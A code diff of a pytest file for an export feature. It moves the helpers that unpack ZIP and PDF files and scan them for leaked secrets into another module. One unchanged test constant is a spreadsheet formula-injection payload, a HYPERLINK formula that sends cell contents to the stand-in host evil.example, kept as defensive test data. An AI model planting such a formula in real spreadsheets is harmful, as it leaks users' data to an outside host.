@@ -10,14 +10,12 @@ from __future__ import annotations
 import base64
 import io
 import os
-import re
-import shutil
 import subprocess
 import sys
 import zipfile
-import zlib
 
 import pytest
+from exported_bytes import layers, leaks
 from sqlalchemy import select
 
 from qmsdesk.db import models as m
@@ -26,46 +24,6 @@ PERIOD = "2026-10"
 RARE = "𠮷𡈽"  # outside the Basic Multilingual Plane
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
 DEMO_MONTHS = [f"2025-{mo:02d}" for mo in (11, 12)] + [f"2026-{mo:02d}" for mo in range(1, 11)]
-
-
-def _pdf_texts(blob: bytes) -> list[bytes]:
-    """The PDF's inflated content streams, and its text as pdftotext reads it."""
-    out = []
-    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", blob, re.S):
-        try:
-            out.append(zlib.decompress(match.group(1)))
-        except zlib.error:
-            out.append(match.group(1))
-    if shutil.which("pdftotext"):
-        done = subprocess.run(["pdftotext", "-", "-"], input=blob, capture_output=True, timeout=120)
-        out.append(done.stdout)
-    return out
-
-
-def layers(name: str, blob: bytes) -> list[tuple[str, bytes]]:
-    """The file itself and everything readable inside it."""
-    found = [(name, blob)]
-    if blob[:2] == b"PK":
-        try:
-            with zipfile.ZipFile(io.BytesIO(blob)) as zf:
-                for info in zf.infolist():
-                    found += layers(f"{name}!{info.filename}", zf.read(info))
-        except zipfile.BadZipFile:
-            pass
-    if blob[:5] == b"%PDF-":
-        found += [(f"{name}#text{i}", t) for i, t in enumerate(_pdf_texts(blob))]
-    return found
-
-
-def leaks(files: dict[str, bytes], secrets: list[str]) -> list[str]:
-    found = []
-    for name, blob in files.items():
-        for where, data in layers(name, blob):
-            for secret in secrets:
-                for encoding in ("utf-8", "utf-16-le", "utf-16-be"):
-                    if secret.encode(encoding) in data:
-                        found.append(f"{secret} in {where} ({encoding})")
-    return found
 
 
 @pytest.fixture(scope="module")
